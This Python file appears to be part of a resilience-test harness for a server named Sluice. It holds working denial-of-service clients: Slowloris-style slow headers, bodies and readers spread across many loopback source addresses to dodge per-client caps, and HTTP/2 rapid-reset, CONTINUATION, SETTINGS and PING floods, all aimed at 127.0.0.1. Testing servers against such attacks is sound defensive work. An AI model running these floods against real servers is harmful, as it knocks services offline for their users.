#!/usr/bin/env python3
"""Attack clients, run as separate processes so that the harness's own measurements (latency
probes, RSS sampling) do not share an interpreter with them. Each runs for a bounded time and
prints one JSON line of counters at the end.

    python attackers.py slow PORT SECONDS PARTIAL_HEADERS SLOW_BODIES SLOW_READERS READ_PATH
                     (ten connections per source address 127.1.x.y)
    python attackers.py h2 KIND PORT SECONDS      KIND: rapid-reset | continuation | settings | ping
"""
import asyncio
import json
import os
import random
import socket
import sys
import time
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import raise_nofile, sign_v  # noqa: E402

COUNTS = {}


def bump(key, n=1):
    COUNTS[key] = COUNTS.get(key, 0) + n


# ----------------------------------------------------------------------------- slowloris
async def hold(port, end, first, drip, every, label, reader_mode=False, source="127.0.0.1"):
    """Keep one slow connection going until `end`: send `first`, then `drip()` every `every`
    seconds (or, as a slow reader, read 256 bytes every `every` seconds). When the server closes
    it, count that and open another."""
    while time.monotonic() < end:
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(
                "127.0.0.1", port, limit=4096, local_addr=(source, 0)), timeout=5)
        except (OSError, asyncio.TimeoutError):
            bump(f"{label}_connect_failed")
            await asyncio.sleep(0.5)
            continue
        bump(f"{label}_opened")
        if reader_mode:
            w.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            w.write(first())
            await w.drain()
            while time.monotonic() < end:
                if reader_mode:
                    data = await asyncio.wait_for(r.read(256), timeout=max(0.1, end - time.monotonic()))
                    if not data:
                        raise ConnectionResetError
                    bump(f"{label}_bytes", len(data))
                    await asyncio.sleep(every)
                else:
                    try:
                        data = await asyncio.wait_for(r.read(4096), timeout=every)
                        if not data:
                            raise ConnectionResetError
                        bump(f"{label}_answered")  # the server answered (e.g. 408/503): closing
                        raise ConnectionResetError
                    except asyncio.TimeoutError:
                        pass
                    w.write(drip())
                    await w.drain()
        except asyncio.TimeoutError:
            pass
        except (OSError, ConnectionResetError):
            bump(f"{label}_closed_by_server")
        finally:
            w.close()
        await asyncio.sleep(0.1)


async def slow_main(port, seconds, partial, bodies, readers, read_path):
    end = time.monotonic() + seconds
    tasks = []
    k = iter(range(10 ** 9))

    def partial_first():
        return b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"

    def partial_drip():
        return f"X-Pad-{next(k)}: {'a' * 8}\r\n".encode()

    def body_first():
        path = f"{uuid.uuid4()}/slow.bin"
        n = 1 << 20
        return (f"PUT /{path}?v={sign_v(path, n)} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                f"Content-Type: application/octet-stream\r\nContent-Length: {n}\r\n\r\n").encode()

    def body_drip():
        return os.urandom(16)

    def reader_first():
        return f"GET {read_path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()

    kinds = ([("partial", partial_first, partial_drip, 1.0, False)] * partial
             + [("body", body_first, body_drip, 1.0, False)] * bodies
             + [("reader", reader_first, None, 1.0, True)] * readers)
    random.Random(6).shuffle(kinds)
    for i, (label, first, drip, every, rm) in enumerate(kinds):
        # Ten connections per source address (127.1.x.y): a crowd, not one client, so Sluice's
        # per-client connection cap does not simply turn the attack away.
        source = f"127.1.{i // 10 // 250}.{i // 10 % 250 + 1}"
        tasks.append(asyncio.create_task(hold(port, end, first, drip, every, label, rm, source)))
        if i % 50 == 49:
            await asyncio.sleep(0.1)  # ramp up: ~2 s for 1100 connections
    await asyncio.gather(*tasks, return_exceptions=True)


# ----------------------------------------------------------------------------- HTTP/2
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def h2_connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drain_nonblocking(s):
    """Read whatever is there without blocking; False if the server closed the connection."""
    s.setblocking(False)
    try:
        while True:
            data = s.recv(1 << 16)
            if not data:
                return False
            bump("bytes_received", len(data))
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        s.setblocking(True)


def rapid_reset(port, end):
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    hdrs = [(":method", "GET"), (":path", "/big.bin"), (":scheme", "http"),
            (":authority", "127.0.0.1")]
    while time.monotonic() < end:
        try:
            s = h2_connect(port)
        except OSError:
            bump("connect_failed")
            time.sleep(0.2)
            continue
        bump("connections")
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        try:
            s.sendall(conn.data_to_send())
            while time.monotonic() < end:
                for _ in range(100):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, hdrs, end_stream=True)
                    conn.reset_stream(sid, error_code=8)  # CANCEL
                    bump("streams_reset")
                s.sendall(conn.data_to_send())
                s.setblocking(False)
                try:
                    data = s.recv(1 << 20)
                    if not data:
                        bump("closed_by_server")
                        break
                    if any(isinstance(ev, h2.events.ConnectionTerminated)
                           for ev in conn.receive_data(data)):
                        bump("goaway")
                        break
                    s.sendall(conn.data_to_send())
                except BlockingIOError:
                    pass
                finally:
                    s.setblocking(True)
        except h2.exceptions.ProtocolError:
            bump("goaway")  # the server's GOAWAY arrived with the last batch
        except OSError:
            bump("closed_by_server")
        finally:
            s.close()


def raw_flood(port, end, kind):
    """CONTINUATION, SETTINGS or PING flood with hand-made frames; the connection is re-opened
    whenever the server closes it or stops reading (a send blocked for 2 s)."""
    import hpack
    from hyperframe.frame import (ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame)
    while time.monotonic() < end:
        try:
            s = h2_connect(port)
        except OSError:
            bump("connect_failed")
            time.sleep(0.2)
            continue
        bump("connections")
        s.settimeout(2)
        enc = hpack.Encoder()
        try:
            s.sendall(PREFACE + SettingsFrame(0).serialize())
            if kind == "continuation":
                block = enc.encode([(":method", "GET"), (":path", "/health"), (":scheme", "http"),
                                    (":authority", "127.0.0.1")])
                s.sendall(HeadersFrame(1, data=block).serialize())  # no END_HEADERS
            i = 0
            while time.monotonic() < end:
                batch = []
                for _ in range(200):
                    i += 1
                    if kind == "continuation":
                        frag = b"" if i % 2 else enc.encode([(f"x-flood-{i}", "a" * 1000)])
                        batch.append(ContinuationFrame(1, data=frag).serialize())
                    elif kind == "settings":
                        batch.append(SettingsFrame(0, settings={
                            SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + (i % 2)}).serialize())
                    else:
                        batch.append(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
                s.sendall(b"".join(batch))
                bump("frames", len(batch))
                # SETTINGS and PING floods never read the ACKs (the server must not queue
                # them without bound); the CONTINUATION flood reads to notice a GOAWAY.
                if kind == "continuation" and not drain_nonblocking(s):
                    bump("closed_by_server")
                    break
        except socket.timeout:
            bump("send_blocked")  # the server stopped reading: back-pressure, fine
        except OSError:
            bump("closed_by_server")
        finally:
            s.close()


def main():
    raise_nofile()
    mode = sys.argv[1]
    if mode == "slow":
        port, seconds, partial, bodies, readers = map(int, sys.argv[2:7])
        asyncio.run(slow_main(port, seconds, partial, bodies, readers, sys.argv[7]))
    elif mode == "h2":
        kind, port, seconds = sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
        end = time.monotonic() + seconds
        if kind == "rapid-reset":
            rapid_reset(port, end)
        else:
            raw_flood(port, end, kind)
    print(json.dumps(COUNTS, sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
